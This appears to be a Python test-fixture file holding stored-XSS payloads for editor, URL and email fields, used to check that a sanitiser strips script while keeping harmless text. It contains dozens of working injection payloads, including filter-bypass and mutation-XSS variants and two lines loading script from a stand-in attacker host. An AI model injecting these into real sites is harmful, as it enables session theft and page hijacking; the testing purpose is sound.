"""
Stored-XSS corpus: what an attacker (or a careless copy & paste) could put into an editor field.
Each payload carries the marker "XSS" so a test can tell whether harmless text survived.
"""

XSS_PAYLOADS: list[str] = [
    # script elements
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<script src=\"data:text/javascript,alert('XSS')\"></script>",
    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "<p>XSS harmless text</p><script type=\"text/javascript\">alert(1)</script>",
    "<script type=\"module\">import('//evil.example/x.js')</script>",
    # event handlers
    "<img src=x onerror=alert('XSS')>",
    "<img src=\"x\" ONERROR=\"alert('XSS')\">",
    "<p onclick=\"alert('XSS')\">click XSS</p>",
    "<body onload=alert('XSS')>",
    "<div onmouseover='alert(1)'>XSS hover</div>",
    "<a href=\"#\" onfocus=alert(1) autofocus>XSS</a>",
    "<details open ontoggle=alert('XSS')>",
    "<input autofocus onfocus=alert('XSS')>",
    "<video><source onerror=\"alert('XSS')\"></video>",
    "<marquee onstart=alert('XSS')>XSS</marquee>",
    # javascript: and data: URLs
    "<a href=\"javascript:alert('XSS')\">XSS link</a>",
    "<a href=\"JaVaScRiPt:alert('XSS')\">XSS link</a>",
    "<a href=\"  javascript:alert('XSS')\">XSS link</a>",
    "<a href=\"java&#x09;script:alert('XSS')\">XSS tab</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">XSS entities</a>",
    "<a href=\"vbscript:msgbox('XSS')\">XSS vb</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">XSS data</a>",
    "<iframe src=\"javascript:alert('XSS')\"></iframe>",
    "<form action=\"javascript:alert('XSS')\"><button>XSS</button></form>",
    "<button formaction=\"javascript:alert(1)\">XSS</button>",
    "<object data=\"javascript:alert('XSS')\"></object>",
    "<embed src=\"javascript:alert('XSS')\">",
    "<img src=\"javascript:alert('XSS')\">",
    # SVG and MathML
    "<svg onload=alert('XSS')>",
    "<svg><script>alert('XSS')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('XSS')\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<svg><animate onbegin=alert('XSS') attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')></style></mglyph></table></mtext></math>",
    # other elements and attributes
    "<iframe srcdoc=\"<script>alert('XSS')</script>\"></iframe>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('XSS')\">",
    "<base href=\"javascript:alert('XSS')//\">",
    "<link rel=\"stylesheet\" href=\"javascript:alert('XSS')\">",
    "<style>@import 'javascript:alert(1)';</style><p>XSS</p>",
    "<p style=\"background:url(javascript:alert('XSS'))\">XSS style</p>",
    "<div style=\"width: expression(alert('XSS'))\">XSS</div>",
    # broken and nested markup, mutation XSS
    "<img \"\"\"><script>alert('XSS')</script>\">",
    "<p>XSS <b>unclosed <i>nested",
    "</p></div></main><script>alert('XSS')</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS')>\">",
    "<!--<img src=\"--><img src=x onerror=alert('XSS')//\">",
    "<<script>alert('XSS');//<</script>",
    "<a href=\"jav&#x0A;ascript:alert('XSS')\">XSS newline</a>",
    "<textarea></textarea><script>alert('XSS')</script>",
    "<title></title><script>alert('XSS')</script>",
    "\"><script>alert('XSS')</script>",
    "'><img src=x onerror=alert('XSS')>",
    "<![CDATA[<script>alert('XSS')</script>]]>",
]

# For URL fields (an organisation's website, an event's registration address): what the admin
# form must refuse (script schemes) and what it may accept but the page must still escape.
URL_PAYLOADS: list[str] = [
    "javascript:alert('XSS')",
    "JaVaScRiPt:alert('XSS')",
    " javascript:alert('XSS')",
    "java\tscript:alert('XSS')",
    "vbscript:msgbox('XSS')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "https://example.org/\"><script>alert('XSS')</script>",
    "https://example.org/\"onmouseover=\"alert('XSS')",
    "https://example.org/'><svg/onload=alert('XSS')>",
    "https://example.org/#\"><img/src/onerror=alert('XSS')>",
    "https://example.org/?q=</script><script>alert('XSS')</script>",
    "https://example.org/XSS",
]
SCRIPT_SCHEME_URLS = URL_PAYLOADS[:6]

EMAIL_PAYLOADS: list[str] = [
    "\"><script>alert('XSS')</script>@example.org",
    "xss\"onmouseover=\"alert(1)@example.org",
    "javascript:alert('XSS')@example.org",
    "xss@example.org",
]
